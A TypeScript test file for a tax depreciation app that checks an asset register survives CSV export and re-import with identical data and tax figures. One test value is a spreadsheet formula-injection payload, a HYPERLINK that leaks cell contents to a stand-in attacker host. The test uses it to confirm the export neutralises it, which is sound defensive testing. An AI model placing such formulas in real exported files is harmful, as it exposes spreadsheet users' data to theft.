/**
 * Issue 23 item 9, "round trips": a register holding every field (a disposed asset with its termination value, an
 * abandoned one under a dated label, a set named like a formula, a second-hand asset of a residential rental, a
 * capital-works asset with its construction dates and use, fund and property codes, entry FYs) exported in the
 * import layout and imported into a new report of the same taxpayer gives the same register and the same figures:
 * the engine's rows in every FY, the Calculations tab, every Deductions view (six FYs, the tax flow forty) and the
 * Summary. The set's name is written spreadsheet-safe (OWASP "CSV injection") and comes back as it was.
 */
import { randomUUID } from 'node:crypto';
import { checkImportFile, IMPORT_HEADINGS } from '@taxdep/domain/import';
import { assetYear } from '@taxdep/domain/tax';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../test/app';
import { engineSchedule } from '../test/calculation-fixtures';
import { testEngine } from '../test/database';
import { createReport } from '../test/register-fixtures';
import { taxCode, validAsset } from '../test/register-helpers';
import { testCsvReader } from './csv-reader.test-support';

const SET_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Dining setting")';
const RATE_REASON =
  'Self-assessed effective life of 16 years (s40-105), inspection 22/07/2025 "commercial grade"';
const VIEWS = ['DiminishingValue', '40', 'L', 'CapitalWorks', 'Abandonment', 'IA', 'R'];
/** Ids differ between the two reports by construction; everything else must not. */
const ID_KEYS = new Set(['id', 'assetId', 'depreciationReportId', 'modelAsset']);
const withoutIds = (value: unknown): unknown =>
  JSON.parse(JSON.stringify(value), (key, v) => (ID_KEYS.has(key) ? undefined : v));

describe(`a register of every field exported and imported again, on ${testEngine()}`, () => {
  let t: TestApp;
  let from = 0;
  let into = 0;

  /** A residential rental of two individuals bought second-hand (s40-27 applies), FY2025. */
  const newReport = async () => {
    const reportId = await createReport(t.database.db, { eofyReportDate: '2025-06-30' });
    await t.database.db
      .updateTable('reports')
      .set({
        property_use: 'residentialRental',
        taxpayer_entity_type: 'individual',
        premises_condition: 'previouslyUsed',
        exchange_date: '2019-03-14',
        settlement_date: '2019-04-30',
      })
      .where('id', '=', reportId)
      .execute();
    return reportId;
  };

  beforeAll(async () => {
    t = await createTestApp();
    const db = t.database.db;
    from = await newReport();
    into = await newReport();
    const lift = await taxCode(db, 'A0004');
    const building = await taxCode(db, 'C0001');
    const add = async (more: Record<string, unknown>, code = lift) => {
      const saved = await t.call('POST', '/depreciationReports/modelAssets', {
        ...validAsset(from, code),
        invoiceDate: '2022-09-02',
        financialYearEndDate: '2023-06-30',
        ...more,
      });
      expect(saved.statusCode, saved.body).toBe(200);
      return saved.json().id as number;
    };
    await add({ description: 'Dining chair', originalCost: 200, setName: SET_NAME });
    await add({ description: 'Dining chair', originalCost: 150, setName: SET_NAME, fundCode: '-F1' });
    await add({ description: 'Lift car', disposalDate: '2024-03-15', terminationValue: 500.25 });
    await add({ description: 'Carpet (came with the house)', invoiceDate: '2019-04-30', secondHand: true });
    // Issue 25 item 4: a customised rate with its reason, a comma and a quote in it.
    await add({
      description: 'New oven',
      secondHand: false,
      financialYearEndDate: '2024-06-30',
      sourceTaxRate: 12.5,
      rateReason: RATE_REASON,
    });
    await add(
      {
        description: 'Granny flat',
        depreciationCategory: { id: 0, code: '43' },
        depreciationMethod: { id: 0, code: 'PC' },
        originalCost: 180_000,
        historicalBuildingCost: 180_000,
        constructionStartDate: '2021-02-01',
        constructionCompletionDate: '2022-08-20',
        constructionUse: 'residential',
      },
      building,
    );
    const fitOut = await add({ description: 'Level 2 fit-out', originalCost: 40_000 });
    const label = await db
      .insertInto('abandonment_labels')
      .values({ report_id: from, label: 'Lease end 2024', abandonment_date: '2024-06-30' })
      .returning('id')
      .executeTakeFirstOrThrow();
    await db.updateTable('assets').set({ abandonment_label_id: label.id }).where('id', '=', fitOut).execute();
  });
  afterAll(async () => {
    await t.close();
  });

  /** The register as stored, each asset's label by name and date, without ids, in id order. */
  const register = (reportId: number) =>
    t.database.db
      .selectFrom('assets as a')
      .leftJoin('abandonment_labels as l', 'l.id', 'a.abandonment_label_id')
      .selectAll('a')
      .select(['l.label', 'l.abandonment_date'])
      .where('a.report_id', '=', reportId)
      .orderBy('a.id')
      .execute()
      .then((rows) =>
        rows.map(
          ({
            id,
            report_id,
            abandonment_label_id,
            created_at,
            updated_at,
            written_by,
            search_text,
            errors_revision,
            errors_fresh,
            // The verdict: the label's link above, written straight, voided the source's (005's trigger).
            has_errors,
            asset_errors,
            ...rest
          }) => rest,
        ),
      );

  it('imports the exported file as the same register, the set name spreadsheet-safe in the file', async () => {
    const answer = await t.call('GET', `/depreciationReports/${from}/exportImportableModelAssets`);
    expect(answer.statusCode).toBe(200);
    const bytes = new Uint8Array(answer.rawPayload);
    const setColumn = IMPORT_HEADINGS.indexOf('Set Name');
    const firstRow = new TextDecoder().decode(bytes).split('\r\n')[1] ?? '';
    // The formula is written as text: a leading `'`, so a spreadsheet shows it and never runs it.
    expect(firstRow).toContain(`"'${SET_NAME.replaceAll('"', '""')}"`);
    const check = await checkImportFile(
      { name: 'export.csv', size: bytes.length, bytes: async () => bytes },
      testCsvReader,
    );
    if (check.kind !== 'staged') throw new Error(JSON.stringify(check));
    expect(check).toMatchObject({ rowCount: 7, invalidCount: 0, warningRowCount: 0, notes: [] });
    expect(check.rows[0]?.values['Set Name']).toBe(`'${SET_NAME}`);
    expect(setColumn).toBeGreaterThan(0);
    const uploaded = await t.call('POST', `/depreciationReports/${into}/uploadModelAssets`, {
      uploadId: randomUUID(),
      rows: check.rows.map((row) => row.values),
    });
    expect(uploaded.statusCode, uploaded.body).toBe(200);
    expect(uploaded.json()).toMatchObject({ uploadedCount: 7, invalidCount: 0 });
    const imported = await register(into);
    expect(imported).toEqual(await register(from));
    const verdicts = await t.database.db
      .selectFrom('assets')
      .select('has_errors')
      .where('report_id', '=', into)
      .execute();
    expect(verdicts.every((v) => v.has_errors === false)).toBe(true);
    expect(imported.map((a) => a.set_name)).toContain(SET_NAME);
    expect(imported.find((a) => a.rate_reason)).toMatchObject({
      source_tax_rate: '12.5000',
      rate_reason: RATE_REASON,
    });
    expect(imported.find((a) => a.label)).toMatchObject({
      label: 'Lease end 2024',
      abandonment_date: '2024-06-30',
    });
  });

  it('gives the same figures in every FY: the engine’s rows, Calculations, every Deductions view, the Summary', async () => {
    const [a, b] = [await engineSchedule(t, from), await engineSchedule(t, into)];
    expect(a.uncalculated).toEqual([]);
    expect(b.uncalculated).toEqual([]);
    expect(b.schedule.assets).toHaveLength(7);
    expect(b.schedule.lastFinancialYear).toBe(a.schedule.lastFinancialYear);
    for (let i = 0; i < a.schedule.assets.length; i += 1) {
      const first = a.schedule.assets[i]?.displayFirstFinancialYear ?? 0;
      expect(b.schedule.assets[i]?.displayFirstFinancialYear).toBe(first);
      for (let fy = first - 5; fy <= a.schedule.lastFinancialYear; fy += 1) {
        const rows = a.schedule.rows[i];
        if (!rows || rows.offset(fy) < 0) continue;
        expect(assetYear(b.schedule, i, fy)).toEqual(assetYear(a.schedule, i, fy));
      }
    }
    const answers = async (reportId: number) => {
      const path = `/depreciationReports/${reportId}`;
      const calls = [
        t.call('POST', `${path}/calculations`, { pageNo: 1, pageSize: 200 }),
        ...VIEWS.map((view) => t.call('GET', `${path}/categoryReport?category=${view}`)),
        t.call('GET', `${path}/summary`),
      ];
      return (await Promise.all(calls)).map((answer) => {
        expect(answer.statusCode, answer.body).toBe(200);
        return withoutIds(answer.json());
      });
    };
    const [before, after] = [await answers(from), await answers(into)];
    expect(after).toEqual(before);
    // Not empty answers: the set, the disposal, the denial, the abandonment and Division 43 all show.
    expect(JSON.stringify(before)).toContain('s40-27');
    expect(JSON.stringify(before[VIEWS.indexOf('Abandonment') + 1])).toContain('Level 2 fit-out');
    expect(JSON.stringify(before[VIEWS.indexOf('CapitalWorks') + 1])).toContain('Granny flat');
    // The Summary says which assets its totals leave out: the lift sold and the fit-out abandoned in FY2024.
    expect((before.at(-1) as { leftOut?: unknown }).leftOut).toEqual({
      withoutFigures: 0,
      startingLater: 0,
      startingLaterOriginalCost: 0,
      endedEarlier: 2,
      endedEarlierOriginalCost: 41_234.56,
    });
  });
});
